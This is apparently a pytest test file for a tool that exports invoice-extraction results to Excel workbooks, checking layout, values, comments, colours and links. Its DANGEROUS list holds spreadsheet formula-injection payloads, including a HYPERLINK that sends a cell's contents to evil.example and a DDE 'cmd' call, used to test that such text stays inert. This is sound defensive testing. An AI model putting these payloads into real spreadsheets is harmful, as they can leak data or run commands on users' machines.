"""The workbook as another program reads it."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.workbook.workbook import Workbook
from tests.deliverables.reports import (
    LINES,
    example,
    invoice,
    one_value,
    outcome,
    renamed,
    report,
    value,
)

from hivekeep.deliverables.sheets import build_sheets
from hivekeep.deliverables.workbook import write_workbook
from hivekeep.domain.fields import FieldSpec, FieldType
from hivekeep.domain.report import RunReport
from hivekeep.domain.runs import AgentState
from hivekeep.domain.values import RowsValue, ValueStatus

ANY_TEXT = st.text(st.characters(), max_size=60)
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "#REF!",
    "{=1+1}",
]


def render(made: RunReport) -> bytes:
    raw = io.BytesIO()
    write_workbook(build_sheets(made, UTC), raw, title="t", created=made.finished)
    return raw.getvalue()


def reload(made: RunReport) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(render(made)))


def column(book: Workbook, sheet: str, heading: str) -> int:
    headings = [cell.value for cell in book[sheet][2]]
    return headings.index(heading) + 1


def colour(book: Workbook, sheet: str, row: int, heading: str) -> str:
    return str(book[sheet].cell(row, column(book, sheet, heading)).fill.fgColor.rgb)[2:]


def test_sheets_and_headings() -> None:
    book = reload(example())
    assert book.sheetnames == ["Results", "Lines", "Failures", "Run"]
    results = book["Results"]
    assert results["A1"].value == "Invoices: inbox: 4 documents, 2 ok, 1 to review, 1 failed"
    assert [cell.value for cell in results[2]] == [
        "File", "Status", "Invoice number", "Date", "Seller", "Currency", "Net", "Total", "Paid",
        "Lines", "Review",
    ]  # fmt: skip
    assert results.freeze_panes == "B3"
    assert results.auto_filter.ref == "A2:K5"


def test_typed_values() -> None:
    book = reload(example())
    row = {c: book["Results"].cell(3, column(book, "Results", c)) for c in ("Date", "Net", "Paid")}
    assert row["Date"].value == datetime(2026, 11, 3)  # noqa: DTZ001  # a sheet knows no zone
    assert row["Date"].number_format == "yyyy-mm-dd"
    assert row["Net"].value == 1034.5
    assert row["Net"].number_format == "#,##0.00 [$EUR]"
    assert row["Paid"].value is False
    number = book["Results"].cell(5, column(book, "Results", "Invoice number"))
    assert (number.value, number.data_type) == ("24312000000012345678", "s")


def test_every_value_carries_its_evidence_as_a_comment() -> None:
    book = reload(example())
    comment = book["Results"].cell(3, column(book, "Results", "Total")).comment
    assert comment is not None
    assert comment.text == "Page 2: “Gesamtbetrag EUR 1.231,06”"
    line = book["Lines"].cell(3, column(book, "Lines", "Amount")).comment
    assert line is not None
    assert "1.000,00" in line.text


def test_doubtful_values_are_coloured_and_explained() -> None:
    book = reload(example())
    assert colour(book, "Results", 5, "Total") == "FFE699"
    assert colour(book, "Results", 5, "Net") == "DDEBF7"
    assert colour(book, "Results", 5, "Date") == "F2F2F2"
    assert colour(book, "Results", 3, "Total") == "000000"
    results = book["Results"]
    assert results.cell(5, 2).value == "needs review"
    assert results.cell(3, 2).value == "ok"
    reasons = results.cell(5, column(book, "Results", "Review")).value
    assert isinstance(reasons, str)
    assert reasons.split("\n") == [
        "Total: Net and tax do not add up.",
        "Lines: The lines do not add up to the total.",
        "net + tax is 1,120.00, not 1,130.00",
    ]
    legend = {row[0].value: row[0].fill.fgColor.rgb for row in book["Run"].iter_rows(min_row=3)}
    assert legend["Amber"] == "00FFE699"


def test_links_lead_to_the_sources_and_between_the_sheets() -> None:
    book = reload(example())
    source = book["Results"]["A5"].hyperlink
    assert source is not None
    assert source.target == "file:///home/me/inbox/%E5%8F%91%E7%A5%A8%202026.jpg"
    lines = column(book, "Results", "Lines")
    places = [book["Results"].cell(row, lines).hyperlink for row in (3, 4, 5)]
    assert [place.location if place else None for place in places] == [
        "'Lines'!A3", "'Lines'!A5", None
    ]  # fmt: skip
    back = book["Lines"]["A5"].hyperlink
    assert back is not None
    assert back.location == "'Results'!A4"


def test_failures_say_what_happened_and_what_to_do() -> None:
    book = reload(example())
    assert [cell.value for cell in book["Failures"][3]] == [
        "locked.pdf",
        "encrypted",
        "'locked.pdf' is protected with a password.",
        "Only its owner can open it.",
        "Save it without a password and drop it again.",
    ]


def test_a_cancelled_document_is_no_hole_in_the_list() -> None:
    unfinished = replace(outcome("/in/late.pdf"), state=AgentState.CANCELLED, result=None)
    book = reload(report([invoice(), unfinished]))
    assert book["Failures"]["A3"].value == "late.pdf"
    assert book["Failures"]["B3"].value == "cancelled"


def test_the_run_sheet_tells_how_it_came_about() -> None:
    run = {row[0].value: row[1].value for row in reload(example())["Run"].iter_rows(min_row=3)}
    assert run["Recipe"] == "invoices"
    assert run["Recipe SHA-256"] == "cd" * 32
    assert run["Model SHA-256"] == "ef" * 32
    assert run["Started (UTC)"] == datetime(2026, 11, 24, 8, 0, 5)  # noqa: DTZ001
    assert run["Duration"] == timedelta(minutes=3, seconds=42)
    assert (run["Documents"], run["… ok"], run["… to review"], run["… failed"]) == (4, 2, 1, 1)
    assert (run["Prompt tokens"], run["… of them cached"]) == (12_345, 6_789)
    assert run["Program"] == "Hivekeep 0.1.0"


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_in_a_document_stays_text(text: str) -> None:
    book = reload(one_value(FieldType.TEXT, text))
    cell = book["Results"].cell(3, 3)
    assert cell.data_type == "s"
    assert str(cell.value).strip() == text.strip()
    if text.strip()[0] in "=+-@":
        assert cell.quotePrefix


@settings(max_examples=60, deadline=None)
@given(text=ANY_TEXT, path=ANY_TEXT, reason=ANY_TEXT, title=ANY_TEXT, heading=ANY_TEXT)
def test_no_text_stops_a_workbook_or_becomes_a_formula(
    text: str, path: str, reason: str, title: str, heading: str
) -> None:
    rows = FieldSpec("rows", FieldType.ROWS, title=title, columns=(
        FieldSpec("c", FieldType.TEXT, title=heading),
    ))  # fmt: skip
    spec = FieldSpec("field", FieldType.TEXT, title=heading)
    doubtful = value("field", text, ValueStatus.NEEDS_REVIEW, reason=reason, quote=text)
    made = renamed(
        report(
            [
                outcome(
                    "/in/" + path.replace("\0", ""),
                    doubtful,
                    RowsValue("rows", ((value("c", text),),), ValueStatus.GROUNDED, reason),
                    problems=(reason,),
                )
            ],
            (spec, rows),
        ),
        title=title,
        recipe=heading,
        model=text,
        run=text,
    )
    book = reload(made)
    kinds = {cell.data_type for page in book for row in page.iter_rows() for cell in row}
    assert "f" not in kinds
    assert "e" not in kinds


def test_the_same_report_gives_the_same_bytes() -> None:
    assert render(example()) == render(example())


def test_a_row_that_is_shorter_than_its_columns_is_filled_up() -> None:
    short = RowsValue("lines", ((value("description", "only this"),),), ValueStatus.GROUNDED)
    book = reload(report([outcome("/in/a.pdf", short)], (LINES,)))
    assert [cell.value for cell in book["Lines"][3]] == ["a.pdf", 1, "only this"] + [None] * 3


def test_a_run_without_documents_still_opens() -> None:
    book = reload(report([]))
    assert book["Failures"]["A1"].value == "Every file has a result"


def test_more_links_than_excel_bears_are_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("hivekeep.deliverables.workbook.MAX_LINKS", 1)
    book = reload(example())
    assert book["Results"]["A3"].hyperlink is not None
    assert book["Results"]["A4"].hyperlink is None
    assert book["Results"]["A4"].value == "Rechnung 002.pdf"


office = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")


def convert(book: Path, kind: str, place: Path) -> None:
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(place / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            kind,
            "--outdir",
            str(place),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={**os.environ, "HOME": str(place)},
    )


@pytest.mark.e2e
@office
def test_libreoffice_opens_it_and_executes_nothing(tmp_path: Path) -> None:
    book = tmp_path / "book.xlsx"
    fields = tuple(
        FieldSpec(f"f{number}", FieldType.TEXT, title=f"F{number}")
        for number in range(len(DANGEROUS))
    )
    hostile = outcome(
        "/in/=1+1.pdf", *(value(f"f{number}", text) for number, text in enumerate(DANGEROUS))
    )
    book.write_bytes(render(report([hostile], fields)))
    # -1: every sheet becomes a file of its own.
    convert(
        book,
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
        tmp_path,
    )
    with (tmp_path / "book-Results.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[2][2 : 2 + len(DANGEROUS)] == DANGEROUS
    assert (tmp_path / "book-Run.csv").is_file()


@pytest.mark.e2e
@office
def test_libreoffice_prints_it(tmp_path: Path) -> None:
    book = tmp_path / "book.xlsx"
    book.write_bytes(render(example()))
    convert(book, "pdf", tmp_path)
    assert (tmp_path / "book.pdf").read_bytes().startswith(b"%PDF")
